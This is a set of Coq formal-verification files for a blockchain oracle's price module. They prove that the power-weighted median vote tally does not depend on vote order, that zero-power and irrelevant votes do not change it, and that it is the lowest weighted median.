(** the Votes store with every irrelevant vote removed *)
Definition strip (st : state) : state :=
  mkState (validators st) (max_validators st) (bonded_tokens st) (power_reduction st) (whitelist st)
          (map (strip_vote st) (filter (is_eligible st) (votes st))) (rates st).

Definition keep (st : state) (x : nat * pvote) : bool := memb (fst x) (whitelist st) && (0 <? pv_rate (snd x)).
Definition posrate (v : pvote) : bool := 0 <? pv_rate v.

(* ---------------------------------------------------------------- strictly sorted lists of pair ids *)

Fixpoint ssorted (l : list nat) : Prop :=
  match l with
  | [] => True
  | x :: r => (forall y, In y r -> (x < y)%nat) /\ ssorted r
  end.

Lemma insert_nat_ssorted x l : ssorted l -> ssorted (insert_nat x l).
Proof.
  induction l as [|z l IH]; simpl; intro H.
  - split; [intros ? []|exact I].
  - destruct H as [H1 H2]. destruct (Nat.ltb x z) eqn:E1.
    + apply Nat.ltb_lt in E1. simpl. split.
      * intros y [<-|Hy]; [exact E1|]. specialize (H1 y Hy). lia.
      * split; assumption.
    + apply Nat.ltb_ge in E1. destruct (Nat.eqb x z) eqn:E2.
      * simpl. split; assumption.
      * apply Nat.eqb_neq in E2. simpl. split.
        -- intros y Hy. apply insert_nat_in in Hy as [->|Hy]; [lia | apply H1; exact Hy].
        -- apply IH. exact H2.
Qed.

Lemma pair_set_ssorted l : ssorted (pair_set l).
Proof. induction l as [|x l IH]; simpl; [exact I | apply insert_nat_ssorted; exact IH]. Qed.

Lemma filter_ssorted f l : ssorted l -> ssorted (filter f l).
Proof.
  induction l as [|x l IH]; simpl; intro H; [exact I|]. destruct H as [H1 H2].
  destruct (f x); simpl; [|apply IH; exact H2].
  split; [|apply IH; exact H2]. intros y Hy. apply filter_In in Hy as [Hy _]. apply H1. exact Hy.
Qed.

Lemma ssorted_ext a : forall b, ssorted a -> ssorted b -> (forall x, In x a <-> In x b) -> a = b.
Proof.
  induction a as [|x a IH]; intros [|y b] Ha Hb Hx.
  - reflexivity.
  - exfalso. apply (proj2 (Hx y)). left. reflexivity.
  - exfalso. apply (proj1 (Hx x)). left. reflexivity.
  - destruct Ha as [A1 A2], Hb as [B1 B2].
    assert (x = y).
    { destruct (proj1 (Hx x) (or_introl eq_refl)) as [E|E]; [auto|].
      destruct (proj2 (Hx y) (or_introl eq_refl)) as [F|F]; [auto|].
      specialize (A1 y F). specialize (B1 x E). lia. }
    subst y. f_equal. apply IH; auto.
    intro z. split; intro Hz.
    + destruct (proj1 (Hx z) (or_intror Hz)) as [E|E]; [|exact E]. subst z. specialize (A1 x Hz). lia.
    + destruct (proj2 (Hx z) (or_intror Hz)) as [E|E]; [|exact E]. subst z. specialize (B1 x Hz). lia.
Qed.

(* ---------------------------------------------------------------- the stripped vote lists *)

Lemma eligible_strip st : eligible (strip st) = eligible st.
Proof. reflexivity. Qed.

Lemma filter_map_comm {A B} (g : A -> B) (f : B -> bool) l : filter f (map g l) = map g (filter (fun x => f (g x)) l).
Proof. induction l as [|x l IH]; simpl; [reflexivity|]. destruct (f (g x)); simpl; rewrite IH; reflexivity. Qed.

Lemma flat_strip st :
  flat_votes (eligible st) (votes (strip st)) = filter (keep st) (flat_votes (eligible st) (votes st)).
Proof.
  unfold strip, flat_votes. simpl. induction (votes st) as [|a l IH]; simpl; [reflexivity|].
  rewrite filter_app, <- IH. unfold is_eligible at 1.
  destruct (perf_power (eligible st) (a_voter a)) as [pw|] eqn:E; simpl.
  - f_equal. unfold votes_of. simpl. rewrite E. rewrite filter_map_comm. f_equal.
  - unfold votes_of at 2. rewrite E. reflexivity.
Qed.

Lemma votes_for_keep st pr flat :
  votes_for pr (filter (keep st) flat) =
  if memb pr (whitelist st) then filter posrate (votes_for pr flat) else [].
Proof.
  unfold votes_for. induction flat as [|[q v] flat IH]; simpl; [destruct (memb pr (whitelist st)); reflexivity|].
  unfold keep at 1. simpl. destruct (Nat.eqb q pr) eqn:Eq.
  - apply Nat.eqb_eq in Eq. subst q. destruct (memb pr (whitelist st)) eqn:Em; simpl.
    + unfold posrate at 1. destruct (0 <? pv_rate v); simpl; [rewrite Nat.eqb_refl; simpl|]; rewrite IH; reflexivity.
    + exact IH.
  - destruct (memb q (whitelist st) && (0 <? pv_rate v)); simpl; [rewrite Eq|]; exact IH.
Qed.

Lemma pair_votes_strip st pr :
  pair_votes (strip st) pr = if memb pr (whitelist st) then filter posrate (pair_votes st pr) else [].
Proof. unfold pair_votes. rewrite eligible_strip, flat_strip. apply votes_for_keep. Qed.

Lemma abstain_zero st pr : only_zero_dropped posrate (pair_votes st pr).
Proof.
  intros v Hv E. destruct (pair_votes_in _ _ _ Hv) as [a [t [pw [_ [_ [_ [_ [Hr [_ Hp]]]]]]]]].
  unfold posrate in E. rewrite Hr in E. rewrite E in Hp. exact Hp.
Qed.

Lemma filter_idem {A} (f : A -> bool) l : filter f (filter f l) = filter f l.
Proof. induction l as [|x l IH]; simpl; [reflexivity|]. destruct (f x) eqn:E; simpl; [rewrite E|]; rewrite IH; reflexivity. Qed.

Lemma sd_fold_none m l : fold_left (sd_step m) l None = None.
Proof. induction l; simpl; auto. Qed.

Lemma sd_fold_posrate m l : forall acc, fold_left (sd_step m) (filter posrate l) acc = fold_left (sd_step m) l acc.
Proof.
  induction l as [|x l IH]; simpl; intro acc; [reflexivity|].
  unfold posrate at 1. destruct (0 <? pv_rate x) eqn:E; simpl; [apply IH|].
  rewrite IH. f_equal. destruct acc as [[s n]|]; simpl; [rewrite E|]; reflexivity.
Qed.

Lemma stddev_posrate l m : stddev (filter posrate l) m = stddev l m.
Proof. unfold stddev. rewrite sd_fold_posrate. reflexivity. Qed.

Lemma passing_posrate st pr thr minv :
  passing (filter posrate (pair_votes st pr)) thr minv = passing (pair_votes st pr) thr minv.
Proof.
  unfold passing. rewrite (tp_filter_zero posrate _ (abstain_zero st pr)).
  unfold num_valid. change (fun v : pvote => 0 <? pv_rate v) with posrate. rewrite filter_idem. reflexivity.
Qed.

(* ---------------------------------------------------------------- same valid pairs *)

Lemma bonded_power_strip st : bonded_power (strip st) = bonded_power st.
Proof. reflexivity. Qed.

Lemma valid_pred_strip p st pr :
  (memb pr (whitelist st) && passing (pair_votes (strip st) pr) (threshold_power p (bonded_power st)) (p_min_voters p)) =
  (memb pr (whitelist st) && passing (pair_votes st pr) (threshold_power p (bonded_power st)) (p_min_voters p)).
Proof.
  rewrite pair_votes_strip. destruct (memb pr (whitelist st)); simpl; [|reflexivity]. apply passing_posrate.
Qed.

Lemma valid_pairs_strip p st : valid_pairs p (strip st) = valid_pairs p st.
Proof.
  unfold valid_pairs. rewrite bonded_power_strip. change (whitelist (strip st)) with (whitelist st).
  apply ssorted_ext.
  - apply filter_ssorted, pair_set_ssorted.
  - apply filter_ssorted, pair_set_ssorted.
  - intro pr. rewrite !filter_In, valid_pred_strip. split.
    + intros [Hv Hg]. split; [|exact Hg].
      apply andb_true_iff in Hg as [Hm Hp]. apply passing_iff in Hp as [Hz _].
      apply pair_votes_voted. intro E. rewrite E in Hz. apply Hz. reflexivity.
    + intros [Hv Hg]. split; [|exact Hg].
      apply andb_true_iff in Hg as [Hm Hp]. apply passing_iff in Hp as [Hz _].
      apply pair_votes_voted. rewrite pair_votes_strip, Hm. intro E.
      rewrite <- (tp_filter_zero posrate _ (abstain_zero st pr)) in Hz. rewrite E in Hz. apply Hz. reflexivity.
Qed.

Lemma forallb_ext_in {A} (f g : A -> bool) l : (forall x, In x l -> f x = g x) -> forallb f l = forallb g l.
Proof.
  induction l as [|x l IH]; simpl; intro H; [reflexivity|].
  rewrite (H x (or_introl eq_refl)), IH; [reflexivity|]. intros y Hy. apply H. right. exact Hy.
Qed.

(* ---------------------------------------------------------------- main statement *)

Lemma domain_strip p st h : domain p st h = true -> domain p (strip st) h = true.
Proof.
  unfold domain. intro H. apply andb_true_iff in H as [H Hr]. apply andb_true_iff.
  split; [exact H|]. unfold rates_in_range in *. rewrite forallb_forall in Hr. apply forallb_forall.
  intros a Ha. unfold strip in Ha. simpl in Ha. apply in_map_iff in Ha as [a0 [E Ha0]]. subst a.
  apply filter_In in Ha0 as [Ha0 _]. specialize (Hr a0 Ha0). rewrite forallb_forall in Hr.
  apply forallb_forall. intros t Ht. simpl in Ht. apply filter_In in Ht as [Ht _]. apply Hr. exact Ht.
Qed.

Lemma wf_strip st : wf st -> wf (strip st).
Proof. intros H v Hv. apply H. exact Hv. Qed.

Theorem strip_no_influence p st h :
  wf st -> domain p st h = true ->
  update true p (strip st) h = update true p st h.
Proof.
  intros Hw Hd. pose proof (domain_strip p st h Hd) as Hd'.
  pose proof (threshold_ok_in_domain p st h Hd) as Hr.
  pose proof (tally_all_ok p st h Hw Hd) as Hok.
  pose proof (tally_all_ok p (strip st) h (wf_strip st Hw) Hd') as Hok'.
  unfold update in *. rewrite bonded_power_strip, Hr, !andb_false_r.
  rewrite valid_pairs_strip in *. change (rates (strip st)) with (rates st).
  assert (Hm : map (fun pr => (pr, wmedian true (pair_votes (strip st) pr))) (valid_pairs p st)
             = map (fun pr => (pr, wmedian true (pair_votes st pr))) (valid_pairs p st)).
  { apply map_ext_in. intros pr Hv. f_equal. apply valid_pairs_iff in Hv as [Hwl [Hz _]].
    rewrite pair_votes_strip. apply memb_iff in Hwl. rewrite Hwl.
    pose proof (pair_votes_nonneg st pr Hw) as Hn. pose proof (tp_nonneg _ Hn).
    apply wmedian_filter_zero; [exact Hn | lia | apply abstain_zero]. }
  rewrite Hm in *. rewrite Hok, Hok'. reflexivity.
Qed.

(** two Votes stores that agree on the relevant votes produce the same outcome *)
Theorem irrelevant_votes_no_influence p st1 st2 h :
  wf st1 ->
  validators st2 = validators st1 -> max_validators st2 = max_validators st1 ->
  bonded_tokens st2 = bonded_tokens st1 -> power_reduction st2 = power_reduction st1 ->
  whitelist st2 = whitelist st1 -> rates st2 = rates st1 ->
  votes (strip st2) = votes (strip st1) ->
  domain p st1 h = true -> domain p st2 h = true ->
  end_block true p st2 h = end_block true p st1 h.
Proof.
  intros Hw Ev Em Eb Ep Ewl Er Es Hd1 Hd2.
  assert (Hw2 : wf st2) by (unfold wf; rewrite Ev; exact Hw).
  unfold end_block. rewrite Er. destruct (is_period_last h (p_vote_period p)); [|reflexivity].
  rewrite <- (strip_no_influence p st1 h Hw Hd1).
  rewrite <- (strip_no_influence p st2 h Hw2 Hd2).
  assert (E : strip st2 = strip st1).
  { unfold strip in *. simpl in Es. rewrite Es, Ev, Em, Eb, Ep, Ewl, Er. reflexivity. }
  rewrite E. reflexivity.
Qed.
