(** C10 — the weighted-median loop: balance, positivity, characterisation as the LOWEST weighted
    median, independence of the order of the votes (any sort, stable or not). *)
From Coq Require Import ZArith List Bool Arith Lia Permutation.
Import ListNotations.
Require Import Nib.Lib.Dec Nib.C10.Model Nib.C10.Spec.
Local Open Scope Z_scope.
Local Arguments Z.mul : simpl never.
Local Arguments Z.add : simpl never.
Local Arguments Z.div : simpl never.

Definition nonneg (l : list pvote) : Prop := forall v, In v l -> 0 <= pv_power v.

Fixpoint sorted (l : list pvote) : Prop :=
  match l with
  | [] => True
  | v :: r => (forall w, In w r -> pv_rate v <= pv_rate w) /\ sorted r
  end.

(* ---------------------------------------------------------------- sums *)

Lemma tp_app a b : total_power (a ++ b) = total_power a + total_power b.
Proof. induction a as [|x a IH]; simpl; [reflexivity|]. rewrite IH. lia. Qed.

Lemma nonneg_cons v l : nonneg (v :: l) -> 0 <= pv_power v /\ nonneg l.
Proof. intro H. split; [apply H; left; reflexivity | intros w Hw; apply H; right; exact Hw]. Qed.

Lemma nonneg_app a b : nonneg (a ++ b) -> nonneg a /\ nonneg b.
Proof. intro H. split; intros v Hv; apply H; apply in_or_app; auto. Qed.

Lemma tp_nonneg l : nonneg l -> 0 <= total_power l.
Proof.
  induction l as [|x l IH]; simpl; intro H; [lia|].
  apply nonneg_cons in H as [H1 H2]. specialize (IH H2). lia.
Qed.

Lemma tp_in v l : nonneg l -> In v l -> pv_power v <= total_power l.
Proof.
  induction l as [|x l IH]; simpl; intros H Hin; [contradiction|].
  apply nonneg_cons in H as [H1 H2]. pose proof (tp_nonneg l H2).
  destruct Hin as [->|Hin]; [lia|]. specialize (IH H2 Hin). lia.
Qed.

Lemma nonneg_filter f l : nonneg l -> nonneg (filter f l).
Proof. intros H v Hv. apply filter_In in Hv as [Hv _]. apply H. exact Hv. Qed.

Lemma tp_filter_le f l : nonneg l -> total_power (filter f l) <= total_power l.
Proof.
  induction l as [|x l IH]; simpl; intro H; [lia|].
  apply nonneg_cons in H as [H1 H2]. specialize (IH H2).
  destruct (f x); simpl; lia.
Qed.

Lemma filter_all {A} (f : A -> bool) l : (forall x, In x l -> f x = true) -> filter f l = l.
Proof.
  induction l as [|x l IH]; simpl; intro H; [reflexivity|].
  rewrite (H x (or_introl eq_refl)). f_equal. apply IH. intros y Hy. apply H. right. exact Hy.
Qed.

Lemma filter_none {A} (f : A -> bool) l : (forall x, In x l -> f x = false) -> filter f l = [].
Proof.
  induction l as [|x l IH]; simpl; intro H; [reflexivity|].
  rewrite (H x (or_introl eq_refl)). apply IH. intros y Hy. apply H. right. exact Hy.
Qed.

Lemma tp_perm a b : Permutation a b -> total_power a = total_power b.
Proof. induction 1; simpl; lia. Qed.

Lemma tp_filter_perm f a b : Permutation a b -> total_power (filter f a) = total_power (filter f b).
Proof.
  induction 1; simpl; try lia.
  - destruct (f x); simpl; lia.
  - destruct (f x), (f y); simpl; lia.
Qed.

Lemma nonneg_perm a b : Permutation a b -> nonneg a -> nonneg b.
Proof. intros Hp H v Hv. apply H. apply Permutation_in with (l := b); [apply Permutation_sym; exact Hp | exact Hv]. Qed.

(* ---------------------------------------------------------------- sorting *)

Lemma insert_vote_perm v l : Permutation (insert_vote v l) (v :: l).
Proof.
  induction l as [|w l IH]; simpl; [apply Permutation_refl|].
  destruct (pv_rate v <? pv_rate w); [apply Permutation_refl|].
  eapply Permutation_trans; [apply perm_skip; exact IH | apply perm_swap].
Qed.

Lemma sort_votes_perm l : Permutation (sort_votes l) l.
Proof.
  induction l as [|v l IH]; simpl; [apply Permutation_refl|].
  eapply Permutation_trans; [apply insert_vote_perm | apply perm_skip; exact IH].
Qed.

Lemma insert_vote_sorted v l : sorted l -> sorted (insert_vote v l).
Proof.
  induction l as [|w l IH]; simpl; intro H.
  - split; [intros ? []|exact I].
  - destruct H as [H1 H2]. destruct (pv_rate v <? pv_rate w) eqn:E.
    + apply Z.ltb_lt in E. simpl. split.
      * intros x [<-|Hx]; [lia|]. specialize (H1 x Hx). lia.
      * split; assumption.
    + apply Z.ltb_ge in E. simpl. split.
      * intros x Hx. apply (Permutation_in _ (insert_vote_perm v l)) in Hx.
        destruct Hx as [<-|Hx]; [lia | apply H1; exact Hx].
      * apply IH. exact H2.
Qed.

Lemma sort_votes_sorted l : sorted (sort_votes l).
Proof. induction l as [|v l IH]; simpl; [exact I | apply insert_vote_sorted; exact IH]. Qed.

Lemma sorted_app_inv l1 v l2 :
  sorted (l1 ++ v :: l2) ->
  (forall x, In x l1 -> pv_rate x <= pv_rate v) /\ (forall x, In x l2 -> pv_rate v <= pv_rate x).
Proof.
  induction l1 as [|a l1 IH]; simpl; intros [H1 H2].
  - split; [intros ? []|exact H1].
  - destruct (IH H2) as [I1 I2]. split; [|exact I2].
    intros x [<-|Hx]; [apply H1; apply in_or_app; right; left; reflexivity | apply I1; exact Hx].
Qed.

(* ---------------------------------------------------------------- the loop *)

Lemma loop_split H m : forall l acc,
  nonneg l -> (acc < H \/ acc = 0) ->
  wmedian_loop true H acc l = Some m ->
  exists l1 v l2, l = l1 ++ v :: l2 /\ pv_rate v = m /\ 0 < pv_power v /\
                  H <= acc + total_power l1 + pv_power v /\
                  (acc + total_power l1 < H \/ acc + total_power l1 = 0).
Proof.
  induction l as [|x l IH]; simpl; intros acc Hn Hacc Hl; [discriminate|].
  apply nonneg_cons in Hn as [Hx Hn].
  destruct ((0 <? pv_power x) && (H <=? acc + pv_power x)) eqn:E.
  - apply andb_true_iff in E as [E1 E2]. apply Z.ltb_lt in E1. apply Z.leb_le in E2.
    injection Hl as <-. exists [], x, l. simpl. repeat split; lia.
  - assert (Hacc' : acc + pv_power x < H \/ acc + pv_power x = 0).
    { apply andb_false_iff in E as [E|E].
      - apply Z.ltb_ge in E. assert (pv_power x = 0) by lia. destruct Hacc; [left|right]; lia.
      - apply Z.leb_gt in E. left. exact E. }
    destruct (IH _ Hn Hacc' Hl) as [l1 [v [l2 [-> [Hr [Hp [Hh Hlow]]]]]]].
    exists (x :: l1), v, l2. simpl. repeat split; auto; lia.
Qed.

Lemma loop_some H : forall l acc,
  nonneg l -> H <= acc + total_power l -> 0 < total_power l ->
  exists m, wmedian_loop true H acc l = Some m.
Proof.
  induction l as [|x l IH]; simpl; intros acc Hn Hh Hpos; [lia|].
  apply nonneg_cons in Hn as [Hx Hn].
  destruct ((0 <? pv_power x) && (H <=? acc + pv_power x)) eqn:E; [eexists; reflexivity|].
  apply IH; [exact Hn | lia |].
  apply andb_false_iff in E as [E|E].
  - apply Z.ltb_ge in E. lia.
  - apply Z.leb_gt in E. lia.
Qed.

Lemma loop_none_no_power H : forall l acc,
  nonneg l -> total_power l = 0 -> wmedian_loop true H acc l = None.
Proof.
  induction l as [|x l IH]; simpl; intros acc Hn Hz; [reflexivity|].
  apply nonneg_cons in Hn as [Hx Hn]. pose proof (tp_nonneg l Hn).
  assert (E : (0 <? pv_power x) = false) by (apply Z.ltb_ge; lia).
  rewrite E. simpl. apply IH; [exact Hn | lia].
Qed.

(* ---------------------------------------------------------------- balance *)

Lemma below_perm a b m : Permutation a b -> below a m = below b m.
Proof. apply tp_filter_perm. Qed.
Lemma above_perm a b m : Permutation a b -> above a m = above b m.
Proof. apply tp_filter_perm. Qed.

Lemma is_median_perm a b m : Permutation a b -> is_median a m -> is_median b m.
Proof.
  intros Hp [[v [Hv Hr]] [H1 H2]]. unfold is_median.
  rewrite <- (below_perm a b m Hp), <- (above_perm a b m Hp), <- (tp_perm a b Hp).
  split; [|split; assumption]. exists v. split; [eapply Permutation_in; eauto | exact Hr].
Qed.

Lemma loop_is_median l m :
  sorted l -> nonneg l ->
  wmedian_loop true (total_power l / 2) 0 l = Some m -> is_median l m.
Proof.
  intros Hs Hn Hl. pose proof (tp_nonneg l Hn) as HT.
  assert (H0 : 0 < total_power l / 2 \/ 0 = 0) by (right; reflexivity).
  destruct (loop_split _ m l 0 Hn H0 Hl) as [l1 [v [l2 [El [Hr [Hp [Hh Hlow]]]]]]].
  subst l. apply sorted_app_inv in Hs as [S1 S2].
  apply nonneg_app in Hn as [N1 N2]. apply nonneg_cons in N2 as [_ N2].
  rewrite tp_app in *. simpl in *. pose proof (tp_nonneg l1 N1). pose proof (tp_nonneg l2 N2).
  split; [exists v; split; [apply in_or_app; right; left; reflexivity | auto]|].
  unfold below, above. rewrite !filter_app. simpl.
  assert (Eb : (pv_rate v <? m) = false) by (apply Z.ltb_ge; lia).
  assert (Ea : (m <? pv_rate v) = false) by (apply Z.ltb_ge; lia).
  rewrite Eb, Ea, !tp_app.
  rewrite (filter_none (fun w => pv_rate w <? m) l2) by (intros x Hx; apply Z.ltb_ge; specialize (S2 x Hx); lia).
  rewrite (filter_none (fun w => m <? pv_rate w) l1) by (intros x Hx; apply Z.ltb_ge; specialize (S1 x Hx); lia).
  simpl.
  pose proof (tp_filter_le (fun w => pv_rate w <? m) l1 N1).
  pose proof (tp_filter_le (fun w => m <? pv_rate w) l2 N2).
  set (T := total_power l1 + (pv_power v + total_power l2)) in *.
  assert (Hd : 2 * (T / 2) <= T /\ T < 2 * (T / 2) + 2) by (pose proof (Z.div_mod T 2 ltac:(lia)); pose proof (Z.mod_pos_bound T 2 ltac:(lia)); lia).
  split; lia.
Qed.

Theorem wmedian_is_median vs :
  nonneg vs -> 0 < total_power vs -> is_median vs (wmedian true vs).
Proof.
  intros Hn Hpos. unfold wmedian.
  pose proof (sort_votes_perm vs) as Hp. pose proof (sort_votes_sorted vs) as Hs.
  assert (Hn' : nonneg (sort_votes vs)) by (eapply nonneg_perm; [apply Permutation_sym; exact Hp | exact Hn]).
  rewrite <- (tp_perm _ _ Hp).
  destruct (loop_some (total_power (sort_votes vs) / 2) (sort_votes vs) 0 Hn') as [m Hm].
  - pose proof (tp_nonneg _ Hn'). assert (total_power (sort_votes vs) / 2 <= total_power (sort_votes vs)) by (apply Z.div_le_upper_bound; lia). lia.
  - rewrite (tp_perm _ _ Hp). exact Hpos.
  - rewrite Hm. apply is_median_perm with (a := sort_votes vs); [exact Hp|].
    apply loop_is_median; assumption.
Qed.

(* ---------------------------------------------------------------- lowest weighted median, uniqueness *)

Definition cum_le (vs : list pvote) (r : Z) : Z := total_power (filter (fun v => pv_rate v <=? r) vs).

(** [m] is the LOWEST submitted positive-power rate whose cumulative power (votes with rate <= m)
    reaches floor(T/2) *)
Definition is_low_median (vs : list pvote) (m : Z) : Prop :=
  (exists v, In v vs /\ pv_rate v = m /\ 0 < pv_power v) /\
  total_power vs / 2 <= cum_le vs m /\
  (forall w, In w vs -> 0 < pv_power w -> pv_rate w < m -> cum_le vs (pv_rate w) < total_power vs / 2).

Lemma low_median_unique vs m1 m2 : is_low_median vs m1 -> is_low_median vs m2 -> m1 = m2.
Proof.
  intros [[v1 [I1 [R1 P1]]] [C1 L1]] [[v2 [I2 [R2 P2]]] [C2 L2]].
  destruct (Z.lt_trichotomy m1 m2) as [H|[H|H]]; [|exact H|].
  - specialize (L2 v1 I1 P1). rewrite R1 in L2. specialize (L2 H). lia.
  - specialize (L1 v2 I2 P2). rewrite R2 in L1. specialize (L1 H). lia.
Qed.

Lemma low_median_perm a b m : Permutation a b -> is_low_median a m -> is_low_median b m.
Proof.
  intros Hp [[v [Hv Hr]] [C L]]. unfold is_low_median, cum_le in *.
  rewrite <- (tp_perm a b Hp).
  split; [exists v; split; [eapply Permutation_in; eauto | exact Hr]|].
  split.
  - rewrite <- (tp_filter_perm _ a b Hp). exact C.
  - intros w Hw Hpw Hlt. rewrite <- (tp_filter_perm _ a b Hp). apply L; auto.
    eapply Permutation_in; [apply Permutation_sym; exact Hp | exact Hw].
Qed.

Lemma loop_is_low_median l m :
  sorted l -> nonneg l ->
  wmedian_loop true (total_power l / 2) 0 l = Some m -> is_low_median l m.
Proof.
  intros Hs Hn Hl.
  assert (H0 : 0 < total_power l / 2 \/ 0 = 0) by (right; reflexivity).
  destruct (loop_split _ m l 0 Hn H0 Hl) as [l1 [v [l2 [El [Hr [Hp [Hh Hlow]]]]]]].
  subst l. apply sorted_app_inv in Hs as [S1 S2].
  pose proof Hn as Hn0.
  apply nonneg_app in Hn as [N1 N2]. apply nonneg_cons in N2 as [_ N2].
  pose proof (tp_nonneg l1 N1). pose proof (tp_nonneg l2 N2).
  split; [exists v; split; [apply in_or_app; right; left; reflexivity | auto]|].
  unfold cum_le. split.
  - rewrite filter_app. simpl.
    assert (E : (pv_rate v <=? m) = true) by (apply Z.leb_le; lia). rewrite E.
    rewrite (filter_all (fun w => pv_rate w <=? m) l1) by (intros x Hx; apply Z.leb_le; specialize (S1 x Hx); lia).
    rewrite !tp_app in *. simpl in *.
    pose proof (tp_nonneg _ (nonneg_filter (fun w => pv_rate w <=? m) l2 N2)). lia.
  - intros w Hw Hpw Hlt.
    rewrite filter_app. simpl.
    assert (E : (pv_rate v <=? pv_rate w) = false) by (apply Z.leb_gt; lia). rewrite E.
    rewrite (filter_none (fun x => pv_rate x <=? pv_rate w) l2) by (intros x Hx; apply Z.leb_gt; specialize (S2 x Hx); lia).
    rewrite !tp_app in *. simpl in *.
    pose proof (tp_filter_le (fun x => pv_rate x <=? pv_rate w) l1 N1).
    assert (Hin : In w l1).
    { apply in_app_or in Hw as [Hw|[Hw|Hw]]; [exact Hw | subst w; lia | specialize (S2 w Hw); lia]. }
    pose proof (tp_in w l1 N1 Hin). lia.
Qed.

(** The result of the loop on ANY two sorted arrangements of the same votes is the same: Go's
    unstable sort.Sort and the order of the Votes store are irrelevant. *)
Theorem loop_sort_invariant l l' :
  Permutation l l' -> sorted l -> sorted l' -> nonneg l ->
  wmedian_loop true (total_power l / 2) 0 l = wmedian_loop true (total_power l' / 2) 0 l'.
Proof.
  intros Hp Hs Hs' Hn. pose proof (nonneg_perm _ _ Hp Hn) as Hn'.
  pose proof (tp_nonneg l Hn) as HT.
  destruct (Z.eq_dec (total_power l) 0) as [Hz|Hz].
  - rewrite (loop_none_no_power _ l 0 Hn Hz).
    rewrite (tp_perm _ _ Hp) in Hz. rewrite (loop_none_no_power _ l' 0 Hn' Hz). reflexivity.
  - assert (Hd : total_power l / 2 <= total_power l) by (apply Z.div_le_upper_bound; lia).
    destruct (loop_some (total_power l / 2) l 0 Hn ltac:(lia) ltac:(lia)) as [m Hm].
    pose proof (tp_perm _ _ Hp) as HTe. rewrite HTe in Hd, Hz, HT.
    destruct (loop_some (total_power l' / 2) l' 0 Hn' ltac:(lia) ltac:(lia)) as [m' Hm'].
    rewrite Hm, Hm'. f_equal.
    apply (low_median_unique l' m m').
    + apply low_median_perm with (a := l); [exact Hp|]. apply loop_is_low_median; assumption.
    + apply loop_is_low_median; assumption.
Qed.

Theorem wmedian_perm vs vs' : Permutation vs vs' -> nonneg vs -> wmedian true vs = wmedian true vs'.
Proof.
  intros Hp Hn. unfold wmedian.
  rewrite <- (tp_perm _ _ (sort_votes_perm vs)), <- (tp_perm _ _ (sort_votes_perm vs')).
  rewrite (loop_sort_invariant (sort_votes vs) (sort_votes vs')); [reflexivity | | apply sort_votes_sorted | apply sort_votes_sorted |].
  - eapply Permutation_trans; [apply sort_votes_perm|]. eapply Permutation_trans; [exact Hp|]. apply Permutation_sym, sort_votes_perm.
  - eapply nonneg_perm; [apply Permutation_sym, sort_votes_perm | exact Hn].
Qed.

Theorem wmedian_is_low_median vs :
  nonneg vs -> 0 < total_power vs -> is_low_median vs (wmedian true vs).
Proof.
  intros Hn Hpos. unfold wmedian.
  pose proof (sort_votes_perm vs) as Hp. pose proof (sort_votes_sorted vs) as Hs.
  assert (Hn' : nonneg (sort_votes vs)) by (eapply nonneg_perm; [apply Permutation_sym; exact Hp | exact Hn]).
  rewrite <- (tp_perm _ _ Hp).
  destruct (loop_some (total_power (sort_votes vs) / 2) (sort_votes vs) 0 Hn') as [m Hm].
  - pose proof (tp_nonneg _ Hn'). assert (total_power (sort_votes vs) / 2 <= total_power (sort_votes vs)) by (apply Z.div_le_upper_bound; lia). lia.
  - rewrite (tp_perm _ _ Hp). exact Hpos.
  - rewrite Hm. apply low_median_perm with (a := sort_votes vs); [exact Hp|].
    apply loop_is_low_median; assumption.
Qed.

(** votes that carry no power (abstentions, bonded validators without consensus power) do not
    influence the median of the current code: removing any set of zero-power votes leaves it unchanged *)
Definition only_zero_dropped (f : pvote -> bool) (vs : list pvote) : Prop :=
  forall v, In v vs -> f v = false -> pv_power v = 0.

Lemma tp_filter_zero f l : only_zero_dropped f l -> total_power (filter f l) = total_power l.
Proof.
  induction l as [|x l IH]; simpl; intro Hz; [reflexivity|].
  assert (Hz' : only_zero_dropped f l) by (intros v Hv; apply Hz; right; exact Hv).
  destruct (f x) eqn:E; simpl; rewrite (IH Hz'); [reflexivity|].
  rewrite (Hz x (or_introl eq_refl) E). lia.
Qed.

Lemma cum_le_filter_zero f l r : only_zero_dropped f l -> cum_le (filter f l) r = cum_le l r.
Proof.
  unfold cum_le. induction l as [|x l IH]; simpl; intro Hz; [reflexivity|].
  assert (Hz' : only_zero_dropped f l) by (intros v Hv; apply Hz; right; exact Hv).
  destruct (f x) eqn:E; simpl; destruct (pv_rate x <=? r); simpl; rewrite (IH Hz'); try reflexivity.
  rewrite (Hz x (or_introl eq_refl) E). lia.
Qed.

Lemma low_median_filter f vs m :
  only_zero_dropped f vs -> is_low_median vs m -> is_low_median (filter f vs) m.
Proof.
  intros Hz [[v [Hv [Hr Hp]]] [C L]].
  unfold is_low_median. rewrite (tp_filter_zero f vs Hz), (cum_le_filter_zero f vs m Hz).
  split.
  - exists v. split; [|auto]. apply filter_In. split; [exact Hv|].
    destruct (f v) eqn:E; [reflexivity|]. rewrite (Hz v Hv E) in Hp. lia.
  - split; [exact C|].
    intros w Hw Hpw Hlt. rewrite (cum_le_filter_zero f vs _ Hz). apply filter_In in Hw as [Hw _]. apply L; auto.
Qed.

Theorem wmedian_filter_zero f vs :
  nonneg vs -> 0 < total_power vs -> only_zero_dropped f vs ->
  wmedian true (filter f vs) = wmedian true vs.
Proof.
  intros Hn Hpos Hz.
  assert (Hn' : nonneg (filter f vs)) by (apply nonneg_filter; exact Hn).
  pose proof (tp_filter_zero f vs Hz) as Ht.
  apply (low_median_unique (filter f vs)).
  - apply wmedian_is_low_median; [exact Hn' | lia].
  - apply low_median_filter; [exact Hz|]. apply wmedian_is_low_median; assumption.
Qed.
