(** C10 — Oracle prices are the power-weighted median of a sufficient quorum.
    Exported statements only; every proof is [exact <lemma>].  Model: Nib.C10.Model (exact LegacyDec
    arithmetic); [true] selects the current code, [false] the code before commit d9ae51e. *)
From Coq Require Import ZArith List Bool Arith Permutation.
Import ListNotations.
Require Import Nib.Lib.Dec Nib.C10.Model Nib.C10.Spec Nib.C10.Proofs.
Local Open Scope Z_scope.

(** FULL STATEMENT.  For every staking situation with non-negative powers, every Votes store, whitelist,
    stored rates, height and parameters in the domain [Spec.domain] = parameters accepted by Params.Validate,
    bonded power fitting int64, rates being LegacyDec values (no further restriction since the fixes
    48f939b / 662a06f / 66a0ce3): the EndBlocker outcome satisfies P
    (outside a period end nothing changes; at a period end it completes without panic, a pair gets a
    price-update event and a new store entry (pair, rate, height) iff it has quorum, the rate is a
    weighted median in the sense of [is_median], and every other stored rate is kept iff it is not
    expired, exactly). *)
